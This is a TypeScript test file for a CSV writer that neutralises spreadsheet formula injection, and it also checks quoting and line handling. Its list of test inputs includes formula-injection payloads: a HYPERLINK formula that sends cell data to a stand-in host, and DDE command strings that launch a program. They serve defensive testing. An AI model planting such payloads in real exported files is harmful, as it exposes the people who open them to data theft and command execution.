import fc from 'fast-check';
import { expect, test } from 'vitest';
import { anyText } from '#test/any-text.ts';
import { csvRow } from './csv.ts';

/** Returns the cell as a spreadsheet reads it. */
function cellOf(text: string): string {
  const [, quoted = ''] = /^"(.*)"\r\n$/s.exec(csvRow([text])) ?? [];
  return quoted.replaceAll('""', '"');
}

const attacks = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+94771234567',
  '+1+cmd|x!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@SUM(A1)',
  '   =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  "'=1+1",
  ' " =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
  '\u0000=1+1',
];

test.each(attacks)('a text that begins like a formula gets an apostrophe: %j', (text) => {
  expect(cellOf(text)).toMatch(/^'/);
});

test('a formula after the separators of other locales gets an apostrophe too', () => {
  expect(cellOf('Silva;=1+1')).toBe("Silva;'=1+1");
  expect(cellOf('Silva; @SUM(A1)|-2')).toBe("Silva;' @SUM(A1)|'-2");
  expect(cellOf('Silva\t=1+1')).toBe('Silva =1+1');
});

test.each([
  '007',
  '123456789012345678',
  '12/3',
  '2026-11-21',
  '1/2',
  '11-2026',
  '12E5',
  '2E-5',
  '1.5E3',
  'DEC10',
  'May 5',
  '10-Dec',
])(
  'a text that a spreadsheet would misread as a number or a date gets an apostrophe: %s',
  (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  },
);

test.each([
  'Dilani Silva',
  'සුනිල් ප්‍රේමදාස',
  '077 123 4567',
  '24/1, Temple Road',
  'Blue "gate"',
  'AYU10',
  'MARU10',
  'SUMMAY10',
  'a=b',
  '2 × Joint Relief Oil 100 ml',
  '',
])('a harmless text stays as it was typed: %j', (text) => {
  expect(cellOf(text)).toBe(text);
});

test('texts are quoted, numbers are not, and a row ends with CRLF', () => {
  expect(csvRow(['a,b', 'say "no"', 3800, 0])).toBe('"a,b","say ""no""",3800,0\r\n');
});

test('a text of several lines is one row of the file', () => {
  expect(csvRow(['Blue gate\r\nCall first\n'])).toBe('"Blue gate / Call first"\r\n');
});

test('a text of 400,000 spaces is written as fast as any other', () => {
  const spaces = ' '.repeat(400_000);
  expect(csvRow([`a${spaces}b`])).toHaveLength(400_006);
  expect(csvRow([`a\n${spaces}\nb`])).toBe('"a / b"\r\n');
});

test('a row of any texts keeps its cells, and no cell begins like a formula', () => {
  const typed = fc.oneof(
    anyText(),
    fc.string({ unit: fc.constantFrom(...'=+-@＝"\',;|\t\r\n 1aක\u200b') }),
  );
  fc.assert(
    fc.property(fc.array(typed, { minLength: 1, maxLength: 4 }), (cells) => {
      const row = csvRow(cells).replace(/\r\n$/, '');
      expect(row).not.toMatch(/[\r\n\t\0]/);
      const read = [...row.matchAll(/(?:^|,)"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell);
      expect(read).toHaveLength(cells.length);
      for (const cell of read) expect(cell).not.toMatch(/^[\p{C}\p{Z}"]*[=+\-@＝]/u);
    }),
    { numRuns: 500 },
  );
});
